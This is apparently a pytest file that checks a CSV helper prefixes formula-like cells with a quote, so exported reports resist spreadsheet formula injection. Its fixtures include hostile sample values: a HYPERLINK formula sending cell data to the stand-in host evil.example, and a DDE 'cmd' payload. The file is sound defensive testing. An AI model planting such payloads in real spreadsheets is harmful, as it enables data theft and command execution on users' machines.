"""Item 20: every CSV the app writes is formula-safe (one helper, core.spreadsheet).

An agency named "@SUM(…)" or "=HYPERLINK(…)" went into the outcome report's CSV as it was, and a
spreadsheet would run it. Every cell that begins with = + - @ (or a tab or CR) now starts with a
single quote; plain negative numbers stay numbers.
"""

from __future__ import annotations

import csv
import io

import pytest

from tests import factories
from tests.reports import factories as rf
from tests.reports.test_outcome_views import query
from velferdslab.core.spreadsheet import safe_cell

KR = 100
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1;"Klikk")', "@SUM(1+1)", "+1+1", "-1+1",
           "\tTAB=1", "\r=1", " =1+1"]


def _rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def _unsafe(rows) -> list[str]:
    return [cell for row in rows for cell in row if cell.lstrip(" \u00a0")[:1] in ("=", "+", "@", "\t", "\r")
            or (cell.startswith("-") and not cell[1:2].isdigit())]


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_cell_quotes_formulas(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Etat X", "NAV Asker", "-1 200,50", "-12", "-3,5 %", 12, -5, 0.5, "a=b", "x@y"])
def test_safe_cell_leaves_text_and_numbers(value):
    assert safe_cell(value) == value


def test_none_is_an_empty_cell():
    assert safe_cell(None) == ""


def test_outcome_csv_quotes_agency_names_that_look_like_formulas(lab_data, login):
    lab = lab_data["lab"]
    manager = factories.user(lab, roles=("manager",))
    fam = lab_data["groups"]["A"][0]
    for name in HOSTILE[:4]:
        rf.paid_spend(lab, fam, factories.agency(lab, name=name, kind="annet"), 1_000 * KR,
                      theme="bolig", category="deposit")
    response = login(manager).get(f"/rapporter/resultater.csv?{query()}")
    assert response.status_code == 200
    rows = _rows(response.get_data(as_text=True))
    cells = {cell for row in rows for cell in row}
    for name in HOSTILE[:4]:
        assert "'" + name in cells, name
    assert _unsafe(rows) == []


def test_audit_review_csv_quotes_every_text_cell(lab, login):
    admin = factories.user(lab, roles=("admin",))
    agency = factories.agency(lab, name="@SUM(9)", kind="annet")
    sneaky = factories.user(lab, name="=cmd|' /C calc'!A0", agency=agency)
    login(sneaky)  # the sign-in is audited under the sneaky name and agency
    response = login(admin).get("/admin/revisjon.csv")
    assert response.status_code == 200
    rows = _rows(response.get_data(as_text=True))
    cells = {cell for row in rows for cell in row}
    assert "'=cmd|' /C calc'!A0" in cells and "'@SUM(9)" in cells
    assert _unsafe(rows) == []


def test_no_csv_writer_bypasses_the_helper():
    """One helper for every CSV: no module of the app builds its own csv.writer / DictWriter."""
    from pathlib import Path

    package = Path(__file__).resolve().parents[2] / "velferdslab"
    offenders = [str(path.relative_to(package)) for path in package.rglob("*.py")
                 if path.name != "spreadsheet.py"
                 and any(call in path.read_text() for call in ("csv.writer(", "csv.DictWriter(", "import csv"))]
    assert offenders == []
